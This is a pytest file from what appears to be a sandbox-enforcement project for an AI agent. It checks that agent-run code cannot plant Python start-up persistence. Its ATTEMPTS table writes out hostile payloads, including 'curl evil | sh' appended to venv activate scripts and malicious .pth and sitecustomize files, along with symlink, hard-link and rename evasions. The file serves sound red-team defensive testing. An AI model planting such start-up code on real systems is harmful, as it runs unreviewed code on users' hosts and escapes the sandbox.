"""A program the agent runs cannot plant start-up code in an existing Python environment of
the workspace (issue 10, classes 8 and 11; fifth red-team pass).

The policy protects a virtual environment's start-up code (``**/site-packages/*.pth``,
``sitecustomize.py``, ``usercustomize.py``, ``**/.venv/bin/activate*``, ``pyvenv.cfg``): it
runs on every start of that environment, on the host too, and nobody reviews
``site-packages``. The fourth pass's sandbox did not enter vendor directories, so
``python3 x.py`` could append to ``.venv/bin/activate`` or drop ``evil.pth`` into
``site-packages``. Now the start-up code places of every environment in a vendor directory
(its top, ``bin``, ``Scripts``, ``lib*/python*/site-packages``: listed, never a package's
tree) are matched against the policy's list: existing entries are bound read-only, new ones
are removed after the run. An environment the run made itself (``python3 -m venv``) is the
run's own. Each attempt runs for real in bubblewrap; the control runs them with the vendor
look switched off (the fourth pass) and shows that they land.
"""

from __future__ import annotations

import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from enforcement_agent.models import Outcome
from enforcement_agent.sandbox import ExecResult, workspace_names
from tests.sandbox.conftest import run_attempt

pytestmark = pytest.mark.sandbox

TENANT = "rt5-vendor"
SP = f".venv/lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
TOX_SP = f".tox/py3/lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
EVIL = "import os; os.system('id > /tmp/pwned')"

ATTEMPTS: dict[str, str] = {
    "append_activate": "open('.venv/bin/activate', 'a').write('\\ncurl evil | sh\\n')",
    "overwrite_existing_pth": f"open('{SP}/existing.pth', 'w').write({EVIL!r})",
    "new_pth": f"open('{SP}/zz-evil.pth', 'w').write({EVIL!r})",
    "new_sitecustomize": f"open('{SP}/sitecustomize.py', 'w').write({EVIL!r})",
    "new_usercustomize": f"open('{SP}/usercustomize.py', 'w').write({EVIL!r})",
    "pyvenv_cfg_home": "open('.venv/pyvenv.cfg', 'w').write('home = /workspace/evil\\n')",
    "rename_pth_then_new": (
        f"os.rename('{SP}/existing.pth', '{SP}/old.txt')\n"
        f"open('{SP}/existing.pth', 'w').write({EVIL!r})"
    ),
    "rename_venv_away_and_rebuild": (
        "os.rename('.venv', 'old-venv')\nos.makedirs('.venv/bin')\n"
        "open('.venv/bin/activate', 'w').write('curl evil | sh')"
    ),
    "tox_env_new_pth": f"open('{TOX_SP}/evil.pth', 'w').write({EVIL!r})",
    "symlink_pth": f"open('evil.py', 'w').write('x')\nos.symlink('/workspace/evil.py', '{SP}/zz.pth')",
    "new_activate_fish": "open('.venv/bin/activate.fish', 'w').write('curl evil | sh')",
    "hard_link_pth": (
        f"open('evil.txt', 'w').write({EVIL!r})\nos.link('evil.txt', '{SP}/zz-link.pth')"
    ),
    "replace_activate_by_rename": (
        "open('.venv/bin/a2', 'w').write('curl evil | sh')\n"
        "os.rename('.venv/bin/a2', '.venv/bin/activate')"
    ),
    "subprocess_shell_append": (
        f"print(subprocess.run(['sh', '-c', 'echo import os >> {SP}/existing.pth'],"
        " capture_output=True))"
    ),
}


def _venv(root: Path) -> Path:
    ws = root / "ws"
    ws.mkdir(parents=True)
    for env in (".venv", ".tox/py3"):
        subprocess.run(
            ["/usr/bin/python3", "-m", "venv", "--without-pip", str(ws / env)], check=True
        )
    (ws / SP / "existing.pth").write_text("/workspace/src\n")
    (ws / SP / "mypkg").mkdir()
    (ws / SP / "mypkg" / "__init__.py").write_text("X = 1\n")
    (ws / "src").mkdir()
    for p in [ws, *ws.rglob("*")]:
        if not p.is_symlink():
            p.chmod(0o777 if p.is_dir() else 0o666)
    return ws


STARTUP = re.compile(r"(\.pth|sitecustomize\.py|usercustomize\.py|/activate[^/]*|pyvenv\.cfg)$")


def _snapshot(ws: Path) -> dict[str, bytes]:
    """The environments' start-up files (what the policy protects there)."""
    out = {}
    for d in (ws / ".venv", ws / ".tox"):
        for p in sorted(d.rglob("*")):
            if not STARTUP.search(str(p)):
                continue
            if p.is_symlink():
                out[str(p.relative_to(ws))] = b"-> " + str(p.readlink()).encode()
            elif p.is_file():
                out[str(p.relative_to(ws))] = p.read_bytes()
    return out


def _landed(ws: Path, before: dict[str, bytes]) -> bool:
    after = _snapshot(ws)
    return (
        after != before
        or (ws / "old-venv").exists()
        and (ws / ".venv" / "bin").exists()
        and (b"curl" in (ws / ".venv" / "bin" / "activate").read_bytes())
    )


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _venv(tmp_path_factory.mktemp("venv-template"))


def _fresh(template: Path, tmp_path: Path) -> Path:
    tmp_path.mkdir(parents=True, exist_ok=True)
    subprocess.run(["cp", "-a", str(template), str(tmp_path / "ws")], check=True)
    return tmp_path / "ws"


def _attempt(ws: Path, code: str, names: object | None) -> ExecResult:
    r = run_attempt(ws, code, names, after="pass", tenant=TENANT)
    assert isinstance(r, ExecResult)
    return r


def test_control_without_the_vendor_look_every_attempt_lands(
    template: Path,
    tmp_path: Path,
    bwrap: str,
    policy_names: Callable[[Path], object],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(workspace_names, "_vendor_startup", lambda *a, **k: None)
    # (the twenty-second pass's look at a vendor directory's own entries finds `pyvenv.cfg`)
    monkeypatch.setattr(workspace_names, "_vendor_protected", lambda *a, **k: None)
    landed = []
    for name, code in ATTEMPTS.items():
        ws = _fresh(template, tmp_path / name)
        before = _snapshot(ws)
        _attempt(ws, code, policy_names(ws))
        if _landed(ws, before):
            landed.append(name)
    assert sorted(set(ATTEMPTS) - set(landed)) == [], "control: these did not land"


@pytest.mark.parametrize("name", sorted(ATTEMPTS))
def test_no_attempt_plants_start_up_code(
    name: str, template: Path, tmp_path: Path, bwrap: str, policy_names: Callable[[Path], object]
) -> None:
    ws = _fresh(template, tmp_path)
    before = _snapshot(ws)
    r = _attempt(ws, ATTEMPTS[name], policy_names(ws))
    assert _snapshot(ws) == before, (name, r.detail, r.output.decode()[-800:])
    assert not (ws / "old-venv").exists() or not (ws / ".venv").exists()


def test_everyday_environment_work_still_runs(
    template: Path, tmp_path: Path, bwrap: str, policy_names: Callable[[Path], object]
) -> None:
    """The environment's python starts (its .pth is read), a package can be added to
    site-packages, and a new environment made by the run keeps its start-up files."""
    ws = _fresh(template, tmp_path)
    code = (
        "r = subprocess.run(['.venv/bin/python', '-c', 'import sys, mypkg; "
        'print("/workspace/src" in sys.path, mypkg.X)\'], capture_output=True, text=True)\n'
        "print(r.stdout, r.stderr)\n"
        f"os.makedirs('{SP}/newpkg')\nopen('{SP}/newpkg/__init__.py', 'w').write('Y = 2')\n"
        "subprocess.run(['python3', '-m', 'venv', '--without-pip', 'venv'], check=True)\n"
        "print(open('.venv/bin/activate').read()[:10])"
    )
    r = _attempt(ws, code, policy_names(ws))
    out = r.output.decode()
    assert r.outcome is Outcome.SUCCESS, (r.detail, out)
    assert "True 1" in out
    assert (ws / SP / "newpkg" / "__init__.py").exists()
    assert (ws / "venv" / "bin" / "activate").exists() and (ws / "venv" / "pyvenv.cfg").exists()
    r2 = _attempt(ws, "print(open('venv/bin/activate').read()[:5])", policy_names(ws))
    assert r2.outcome is Outcome.SUCCESS  # and the next run binds it like any other


def test_a_new_pth_is_named_in_the_result(
    template: Path, tmp_path: Path, bwrap: str, policy_names: Callable[[Path], object]
) -> None:
    ws = _fresh(template, tmp_path)
    r = _attempt(ws, ATTEMPTS["new_pth"], policy_names(ws))
    assert r.outcome is Outcome.ERROR and r.exit_code == 126
    assert f"{SP}/zz-evil.pth" in r.detail and "removed" in r.detail
